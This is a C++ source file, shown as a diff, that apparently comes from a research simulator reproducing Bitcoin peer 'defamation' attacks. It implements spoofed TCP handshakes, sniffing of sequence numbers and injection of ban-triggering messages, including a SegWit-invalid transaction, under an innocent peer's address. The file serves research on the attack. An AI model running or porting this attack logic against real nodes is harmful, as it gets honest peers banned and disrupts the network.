@@ -1,0 +1,161 @@
+#include "attack/defamation.hpp"
+
+#include "attack/crafter.hpp"
+
+namespace bsattack {
+
+// ---------------------------------------------------------------------------
+// SpoofedTcpClient
+
+SpoofedTcpClient::SpoofedTcpClient(AttackerNode& attacker, Endpoint spoofed_src,
+                                   Endpoint target)
+    : attacker_(attacker), spoofed_src_(spoofed_src), target_(target) {
+  snd_next_ = (spoofed_src.ip ^ (spoofed_src.port * 40503u)) | 1u;
+}
+
+void SpoofedTcpClient::EmitRaw(std::uint8_t flags, bsutil::ByteSpan payload) {
+  bsim::TcpSegment seg;
+  seg.src = spoofed_src_;  // the spoofed identifier
+  seg.dst = target_;
+  seg.seq = snd_next_;
+  seg.ack = rcv_next_;
+  seg.flags = flags;
+  seg.payload.assign(payload.begin(), payload.end());
+  snd_next_ += static_cast<std::uint32_t>(payload.size());
+  if (flags & bsim::kFlagSyn) ++snd_next_;
+  ++segments_injected_;
+  attacker_.Transmit(std::move(seg));
+}
+
+void SpoofedTcpClient::Start(std::function<void()> on_established) {
+  on_established_ = std::move(on_established);
+
+  // Sniff the shared segment for the target's SYN-ACK toward the spoofed
+  // identifier; it carries the ISN we must acknowledge.
+  std::weak_ptr<bool> alive = alive_;
+  attacker_.Net().AddSniffer([this, alive](const bsim::TcpSegment& seg, bsim::SimTime) {
+    if (alive.expired() || established_) return;
+    if (seg.src != target_ || seg.dst != spoofed_src_) return;
+    if (!seg.Has(bsim::kFlagSyn) || !seg.Has(bsim::kFlagAck)) return;
+    if (seg.ack != snd_next_) return;
+    rcv_next_ = seg.seq + 1;
+    established_ = true;
+    EmitRaw(bsim::kFlagAck, {});  // complete the spoofed three-way handshake
+    if (on_established_) on_established_();
+  });
+
+  syn_sent_ = true;
+  EmitRaw(bsim::kFlagSyn, {});
+}
+
+void SpoofedTcpClient::SendData(bsutil::ByteSpan data) {
+  if (!established_) return;
+  std::size_t offset = 0;
+  while (offset < data.size()) {
+    const std::size_t chunk = std::min(bsim::kMss, data.size() - offset);
+    EmitRaw(bsim::kFlagPsh | bsim::kFlagAck, data.subspan(offset, chunk));
+    offset += chunk;
+  }
+}
+
+// ---------------------------------------------------------------------------
+// PreConnectionDefamation
+
+PreConnectionDefamation::PreConnectionDefamation(AttackerNode& attacker, Endpoint target,
+                                                 Endpoint innocent_id,
+                                                 std::vector<bsutil::ByteVec> frames)
+    : attacker_(attacker),
+      target_(target),
+      innocent_(innocent_id),
+      frames_(std::move(frames)) {}
+
+void PreConnectionDefamation::Run(std::function<void()> on_done) {
+  client_ = std::make_unique<SpoofedTcpClient>(attacker_, innocent_, target_);
+  client_->Start([this, on_done = std::move(on_done)]() {
+    // Pace the frames one pipeline interval apart so the target's handshake
+    // replies (sent to the spoofed host and dropped there) cannot interleave
+    // with our stream mid-frame.
+    bsim::SimTime delay = 0;
+    for (const auto& frame : frames_) {
+      attacker_.Sched().After(delay, [this, frame]() { client_->SendData(frame); });
+      delay += bsim::kMillisecond;
+    }
+    if (on_done) attacker_.Sched().After(delay + bsim::kMillisecond, std::move(on_done));
+  });
+}
+
+std::vector<bsutil::ByteVec> PreConnectionDefamation::InstantBanFrames(
+    std::uint32_t magic) {
+  bschain::ChainParams params;
+  Crafter crafter(params);
+  std::vector<bsutil::ByteVec> frames;
+  frames.push_back(bsproto::EncodeMessage(magic, bsproto::VersionMsg{}));
+  frames.push_back(bsproto::EncodeMessage(magic, bsproto::VerackMsg{}));
+  frames.push_back(bsproto::EncodeMessage(magic, crafter.SegwitInvalidTx()));
+  return frames;
+}
+
+// ---------------------------------------------------------------------------
+// PostConnectionDefamation
+
+PostConnectionDefamation::PostConnectionDefamation(AttackerNode& attacker, Endpoint target,
+                                                   Endpoint innocent_id)
+    : attacker_(attacker), target_(target), innocent_(innocent_id) {}
+
+void PostConnectionDefamation::Arm(std::vector<bsutil::ByteVec> frames) {
+  frames_ = std::move(frames);
+  armed_ = true;
+
+  // Algorithm 1 line 2-3: real-time eavesdropping on the j↔i connection to
+  // learn the current seqnum/acknum.
+  std::weak_ptr<bool> alive = alive_;
+  attacker_.Net().AddSniffer([this, alive](const bsim::TcpSegment& seg, bsim::SimTime) {
+    if (alive.expired() || injected_) return;
+    ++segments_observed_;
+    if (seg.src == innocent_ && seg.dst == target_) {
+      // j → i: the next in-window sequence number follows this segment.
+      std::uint32_t next = seg.seq + static_cast<std::uint32_t>(seg.payload.size());
+      if (seg.Has(bsim::kFlagSyn) || seg.Has(bsim::kFlagFin)) ++next;
+      next_seq_from_innocent_ = next;
+      last_ack_from_innocent_ = seg.ack;
+      seq_known_ = true;
+    } else if (seg.src == target_ && seg.dst == innocent_) {
+      // i → j: i's acknowledgement field reveals what i expects from j.
+      if (seg.Has(bsim::kFlagAck) && seg.ack != 0) {
+        next_seq_from_innocent_ = seg.ack;
+        seq_known_ = true;
+      }
+    } else {
+      return;
+    }
+    TryInject();
+  });
+}
+
+void PostConnectionDefamation::TryInject() {
+  if (!armed_ || injected_ || !seq_known_) return;
+  injected_ = true;
+
+  // Algorithm 1 lines 4-5: craft the misbehaving message with the 4-tuple
+  // and expected seqnum/acknum, and inject it toward i.
+  std::uint32_t seq = next_seq_from_innocent_;
+  for (const auto& frame : frames_) {
+    std::size_t offset = 0;
+    while (offset < frame.size()) {
+      const std::size_t chunk = std::min(bsim::kMss, frame.size() - offset);
+      bsim::TcpSegment seg;
+      seg.src = innocent_;  // spoofed: the innocent peer's identifier
+      seg.dst = target_;
+      seg.seq = seq;
+      seg.ack = last_ack_from_innocent_;
+      seg.flags = bsim::kFlagPsh | bsim::kFlagAck;
+      seg.payload.assign(frame.begin() + static_cast<std::ptrdiff_t>(offset),
+                         frame.begin() + static_cast<std::ptrdiff_t>(offset + chunk));
+      seq += static_cast<std::uint32_t>(chunk);
+      attacker_.Transmit(std::move(seg));
+      offset += chunk;
+    }
+  }
+}
+
+}  // namespace bsattack
